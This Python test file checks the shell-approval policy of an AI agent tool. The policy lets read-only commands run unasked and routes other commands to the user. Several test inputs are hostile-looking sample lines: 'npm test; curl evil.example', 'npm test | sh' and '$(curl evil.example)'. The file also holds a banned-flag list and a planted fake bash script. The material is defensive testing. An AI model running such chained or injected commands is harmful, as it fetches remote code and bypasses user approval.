"""Shell safety: what only reads runs unasked, and nothing else does."""

from __future__ import annotations

import asyncio
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.tools.safety.boxes import needs_sandbox
from tests.tools.safety.commands import EVERYDAY, HOSTILE

from turnout.model import ToolCall
from turnout.tools.builtin import read_file, shell
from turnout.tools.builtin.shell_assessment import MOST_NAMES, files_fitting
from turnout.tools.confine.output import SavedOutput
from turnout.tools.confine.process import Finished
from turnout.tools.confine.sandbox import Unconfined, sandbox_for
from turnout.tools.confine.workspace import WorkspaceFiles
from turnout.tools.declare.context import ToolContext
from turnout.tools.declare.registry import Registry
from turnout.tools.policy import shell_words
from turnout.tools.policy.programs import PROGRAMS, Program
from turnout.tools.policy.rules import Policy, Rule, Verdict
from turnout.tools.policy.shell_safety import judge_line
from turnout.tools.policy.shell_words import Doubt, plain_commands
from turnout.tools.policy.situation import Situation
from turnout.tools.schedule.admission import Admitted, admit_call

REGISTRY = Registry([shell])


class Boxed:
    """A sandbox as policy sees one."""

    confines = True
    network = False


@pytest.fixture
def workspace(tmp_path: Path) -> Any:
    with WorkspaceFiles(tmp_path) as place:
        yield place


def verdict(command: str, workspace: Any, policy: Policy | None = None, **more: Any) -> Verdict:
    situation = Situation(workspace, more.pop("spawn", Boxed()), {"PATH": "/usr/bin:/bin"}, **more)
    call = ToolCall("c", "shell", {"command": command})
    admitted = admit_call(call, REGISTRY, policy or Policy(), situation)
    assert isinstance(admitted, Admitted), admitted
    return admitted.verdict


def test_no_hostile_command_runs_unasked(workspace: Any) -> None:
    """Every mechanism of the published attacks on shell approval, in several spellings each."""
    assert len(HOSTILE) >= 200
    for case in HOSTILE:
        effect = verdict(case["command"], workspace).effect
        assert effect == "ask", f"{case['from']}: {case['command']!r}"


def test_everyday_reading_runs_unasked(workspace: Any) -> None:
    """What people and models type to look around, git and pipes included."""
    assert len(EVERYDAY) >= 100
    refused = {line: why for line in EVERYDAY if (why := verdict(line, workspace)).effect != "allow"}
    assert not refused


def test_without_a_sandbox_every_command_is_asked_for(workspace: Any) -> None:
    """And the question says that nothing confines it, and why."""
    for spawn in (None, Unconfined("bubblewrap is not installed")):
        for line in EVERYDAY:
            assert verdict(line, workspace, spawn=spawn).effect == "ask"
    asked = verdict("ls", workspace, spawn=Unconfined("bubblewrap is not installed"))
    assert asked.why == (
        "ask mode asks before risky calls: there is no sandbox, so it can reach everything that you can "
        "(bubblewrap is not installed)"
    )


def test_without_the_parser_every_command_is_asked_for(
    workspace: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The parser is a dependency; where it is missing nothing is judged, and the reason is named."""
    shell_words._parser.cache_clear()
    monkeypatch.setitem(sys.modules, "tree_sitter_bash", None)
    try:
        asked = verdict("ls", workspace)
        assert asked.effect == "ask" and "tree-sitter-bash is not installed" in asked.why
    finally:
        shell_words._parser.cache_clear()


def test_a_line_takes_the_highest_risk_of_its_parts() -> None:
    """Read, write, risky, dangerous; through pipes and lists alike."""
    lines = {
        "ls": "read",
        "ls && mkdir a": "write",
        "ls; mkdir a; npm test": "risky",
        "ls | cat && npm test || rm -r a; mkdir b": "dangerous",
        "rm -r a": "dangerous",
    }
    assert {line: judge_line(line).risk for line in lines} == lines


def test_the_question_says_what_stood_in_the_way(workspace: Any) -> None:
    """The first thing that is not plain, or the first word that no list knows."""
    reasons = {
        "echo $HOME": "it holds an expansion ($)",
        "ls > x": "it holds a redirect (>)",
        "git log --output=x": "git log: --output=x is not known to only read",
        "npm test": "npm is not among the programs known to only read",
        "uniq a b": "uniq: 'b' is one operand too many",
    }
    for command, reason in reasons.items():
        assert verdict(command, workspace).why.endswith(reason)


def test_a_program_that_would_be_found_in_the_workspace_is_asked_for(workspace: Any, tmp_path: Path) -> None:
    """A repository may bring its own `ls`, on a PATH that leads into it."""
    (tmp_path / "bin").mkdir()
    situation = Situation(workspace, Boxed(), {"PATH": f"{tmp_path}/bin:/usr/bin:/bin"})
    call = ToolCall("c", "shell", {"command": "cat a | ls"})

    def effect() -> str:
        admitted = admit_call(call, REGISTRY, Policy(), situation)
        assert isinstance(admitted, Admitted)
        return admitted.verdict.effect

    assert effect() == "allow"
    (tmp_path / "bin/ls").write_text("#!/bin/sh\n")
    assert effect() == "allow"  # bash does not run what is not executable
    (tmp_path / "bin/ls").chmod(0o755)
    assert effect() == "ask"


def test_bash_is_not_taken_from_the_workspace(workspace: Any, tmp_path: Path) -> None:
    """A PATH may lead into the workspace, and whoever runs `true` did not ask for a bash of its own."""
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin/bash").write_text("#!/bin/sh\necho EVIL\n")
    (tmp_path / "bin/bash").chmod(0o755)
    known = {"PATH": f"{tmp_path}/bin:/usr/bin:/bin"}
    context = ToolContext("c", workspace=workspace, spawn=Unconfined("on purpose"), environment=known)
    for more in ({}, {"background": True}):
        outcome = asyncio.run(_finished(context, {"command": "echo mine", **more}))
        assert "EVIL" not in outcome and "mine" in outcome


async def _finished(context: ToolContext, arguments: dict[str, Any]) -> str:
    outcome = await shell.invoke(context, arguments)
    return outcome if isinstance(outcome, str) else str(outcome.text)


def test_the_working_folder_counts(workspace: Any, tmp_path: Path) -> None:
    """`..` is inside when the shell stands in a folder of the workspace, and outside when not."""
    (tmp_path / "src/deep").mkdir(parents=True)
    deep = {"shell.folder": "src/deep"}
    assert verdict("cat ../../README.md", workspace, state=deep).effect == "allow"
    assert verdict("cat ../../../README.md", workspace, state=deep).effect == "ask"
    assert verdict("cd src && cat ../README.md", workspace).effect == "allow"
    assert verdict("cd src && cat ../../README.md", workspace).effect == "ask"


def test_a_link_in_a_path_is_followed_before_it_is_judged(workspace: Any, tmp_path: Path) -> None:
    """Behind a link `..` leads elsewhere than the text says: what counts is where the kernel ends."""
    (tmp_path / "a").mkdir()
    (tmp_path / "sub").mkdir()
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets/key").write_text("k")
    (tmp_path / "a/b").symlink_to("../sub")
    (tmp_path / "out").symlink_to("/etc/hostname")
    (tmp_path / "gone").symlink_to("../nothing")
    for line in ("cat a/b/../../x", "cd a/b && cat ../../x", "cat out", "wc -l gone", "cd out && ls"):
        assert verdict(line, workspace).effect == "ask", line
    for line in ("cat a/b/../x", "cd a/b && ls ..", "cat a/../sub/x", "cd ./a && ls b"):
        assert verdict(line, workspace).effect == "allow", line
    denies = Policy("ask", (Rule("deny", path="secrets/**"),))
    for line in ("cat a/b/../secrets/key", "cd a/b && cat ../secrets/key", "cat a/../secrets/key"):
        assert verdict(line, workspace, denies).effect == "deny", line


def test_a_glob_is_judged_by_every_file_that_it_fits(workspace: Any, tmp_path: Path) -> None:
    """Links that lead out, denied files and too many of them are found before bash finds them."""
    (tmp_path / "src/deep").mkdir(parents=True)
    for name in ("src/a.py", "src/b.py", "src/.hidden", "src/deep/c.py"):
        (tmp_path / name).write_text("x")
    denies = Policy("ask", (Rule("deny", path="**/b.py"),))
    for line in ("cat src/*.py", "ls src/*", "wc -l src/*/?.py", "cat src/*.txt", "cat nowhere/*/x"):
        assert verdict(line, workspace).effect == "allow", line
    assert verdict("cat src/*.py", workspace, denies).effect == "deny"
    assert verdict("cat src/a*", workspace, denies).effect == "allow"
    (tmp_path / "src/out.py").symlink_to("/etc/hostname")
    (tmp_path / "src/far").symlink_to("/etc")
    for line in ("cat src/*.py", "ls src/*", "cat src/*/hostname", "cat src/f?r/*"):
        assert verdict(line, workspace).effect == "ask", line
    assert verdict("cat src/[ab].py", workspace).effect == "ask"
    assert verdict("cat src/a*", workspace).effect == "allow"
    (tmp_path / "many").mkdir()
    for number in range(MOST_NAMES + 1):
        (tmp_path / f"many/{number}").touch()
    assert verdict("cat many/*", workspace).why.endswith("a glob in it matches too many files to check")


@needs_sandbox
def test_what_a_glob_was_judged_by_is_what_bash_makes_of_it(workspace: Any, tmp_path: Path) -> None:
    """For every glob: each word that bash puts in its place was judged."""
    for name in (
        "src/a.py",
        "src/B.py",
        "src/.h.py",
        "src/-x.py",
        "src/d/c.py",
        "src/d/e/f.py",
        ".github/x.yml",
    ):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("")
    for glob in (
        "src/*",
        "src/*.py",
        "src/?.py",
        "src/**/*",
        "src/*/*/*",
        ".git*/*",
        "./s*/*",
        "src/d/",
        "src/*/",
    ):
        context = ToolContext("c", workspace=workspace, spawn=sandbox_for(workspace))
        outcome = asyncio.run(shell.invoke(context, {"command": f"printf '%s\\n' {glob}"}))
        words = {word.rstrip("/") for word in outcome.text.split("\n")}
        assert words <= {path.rstrip("/") for path in files_fitting(workspace, glob) or ()}, glob


def test_saved_output_is_read_unasked(tmp_path: Path) -> None:
    """A model that is told where the whole lies may go and read it, by tool or by command."""
    saved = SavedOutput(tmp_path / "saved")
    path = saved.save("the whole")
    (tmp_path / "root").mkdir()
    with WorkspaceFiles(tmp_path / "root", saved=saved) as workspace:
        assert verdict(f"tail -n 5 {path}", workspace).effect == "allow"
        assert verdict(f"tail -n 5 {path}/../../x", workspace).effect == "ask"
        read = ToolCall("c", "read_file", {"path": path})
        admitted = admit_call(read, Registry([read_file]), Policy(), Situation(workspace))
        assert isinstance(admitted, Admitted) and admitted.verdict.effect == "allow"


# Rules and commands


def rule(effect: Any, pattern: str) -> Policy:
    return Policy("ask", (Rule(effect, "shell", {"command": pattern}),))


@pytest.mark.parametrize(
    "command",
    [
        "npm test; curl evil.example",
        "npm test && curl evil.example",
        "npm test | sh",
        "npm test > .git/config",
        "npm test $(curl evil.example)",
        "npm test\ncurl evil.example",
        "npm test & curl evil.example",
        "'npm test; curl evil.example'",
    ],
)
def test_a_rule_that_allows_must_cover_every_part(workspace: Any, command: str) -> None:
    """`npm test*` is about a command, not about how a line begins."""
    assert verdict("npm test --watch", workspace, rule("allow", "npm test*")).effect == "allow"
    assert verdict("npm test a && npm test b", workspace, rule("allow", "npm test*")).effect == "allow"
    assert verdict(command, workspace, rule("allow", "npm test*")).effect == "ask"


def test_a_line_allowed_to_the_letter_is_allowed(workspace: Any) -> None:
    """Whoever wrote down the whole line knows what is in it."""
    line = "make build > log.txt 2>&1"
    assert verdict(line, workspace, rule("allow", line)).effect == "allow"


def test_a_rule_that_denies_meets_any_part(workspace: Any) -> None:
    """Wherever in the line the command stands."""
    for line in ("rm -r a", "ls; rm -r a", "ls | cat && rm -r a", "ls\nrm -r a"):
        assert verdict(line, workspace, rule("deny", "rm *")).effect == "deny"
    assert verdict("ls", workspace, rule("deny", "rm *")).effect == "allow"


def test_what_cannot_be_read_is_asked_for_where_a_rule_denies(workspace: Any) -> None:
    """Even in full mode: the line may hide what the rule forbids. Too long to look at is denied."""
    denies = Policy("full", (Rule("deny", "shell", {"command": "rm *"}),))
    assert verdict("$(echo rm) -r a", workspace, denies).effect == "ask"
    assert verdict("echo $HOME", workspace, denies).effect == "ask"
    assert verdict("true; " * 60 + "rm -r a", workspace, denies).effect == "deny"
    assert verdict("echo $HOME", workspace, Policy("full")).effect == "allow"


# The lists themselves


def described(programs: dict[str, Program], prefix: str = "") -> Any:
    for name, each in programs.items():
        yield prefix + name, each
        yield from described(each.commands, f"{prefix}{name} ")


ALL = list(described(PROGRAMS))


@pytest.mark.parametrize(("name", "each"), ALL, ids=[name for name, _ in ALL])
def test_flags_are_spelled_in_full(name: str, each: Program) -> None:
    """One letter, or a long name; no list holds what writes, runs or waits."""
    banned = {"--output", "--pre", "--exec", "-exec", "-delete", "--pager", "--ext-diff", "--textconv"}
    for flag in {*each.flags, *each.takes}:
        assert flag.startswith("-") and flag.isprintable() and " " not in flag
        assert flag.partition("=")[0] not in banned


@pytest.mark.parametrize(
    "line",
    ["sort -t -o x", "sort -k --check y", "grep -e --include=x y", "cut -d -f 1", "find . -name -ls"],
)
def test_a_value_may_not_look_like_a_flag(line: str) -> None:
    """If we erred about a flag's value, the program would take it for one."""
    assert judge_line(line).risk == "risky"


def test_flags_of_find_are_words_and_cannot_be_joined() -> None:
    """`-ao` is not `-a -o` to it."""
    assert judge_line("find . -a -o").risk == "read"
    assert judge_line("find . -ao").risk == "risky"


def test_what_only_reads_runs_with_nothing_to_write_to(workspace: Any) -> None:
    """The tool asks the sandbox for its reading side, and for nothing else's sake."""
    used: list[str] = []

    class Box(Boxed):
        async def __call__(self, command: Any, **options: Any) -> Finished:
            used.append("writing")
            return Finished(code=0)

        @property
        def read_only(self) -> Any:
            async def spawn(command: Any, **options: Any) -> Finished:
                used.append("reading")
                return Finished(code=0)

            return spawn

    context = ToolContext("c", workspace=workspace, spawn=Box())
    for command in ("ls -la", "touch a", "ls > a", "git log | head"):
        asyncio.run(shell.invoke(context, {"command": command}))
    assert used == ["reading", "writing", "writing", "reading"]


@given(st.sampled_from(ALL), st.text("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-", min_size=2))
def test_no_flag_may_be_abbreviated_or_invented(program: tuple[str, Program], flag: str) -> None:
    """A long flag that is not on the list by its whole name makes the command a question."""
    name, each = program
    word = f"--{flag.strip('-') or 'x'}"
    if each.bare or each.single_dash or word in each.flags or word in each.takes:
        return
    assert judge_line(f"{name} {word}").risk != "read"
    assert judge_line(f"{name} {word}=x").risk != "read"


@given(st.text(max_size=200))
def test_judging_never_fails(line: str) -> None:
    """Any text is a command line to someone."""
    found = plain_commands(line)
    assert isinstance(found, Doubt) or all(command.words for command in found)
    assert judge_line(line).risk in ("read", "write", "risky", "dangerous")


def test_judging_is_quick() -> None:
    """The longest line that is looked at takes milliseconds, and so does one that is not."""
    lines = [
        "ls " + "a " * 3900,
        "'" * 7999,
        "ls|" * 2600,
        "ls '" + "\\" * 7900 + "'",
        "(" * 7000,
        "$(" * 1000_000,
    ]
    started = time.process_time()
    for line in lines:
        judge_line(line)
    assert time.process_time() - started < 1.0
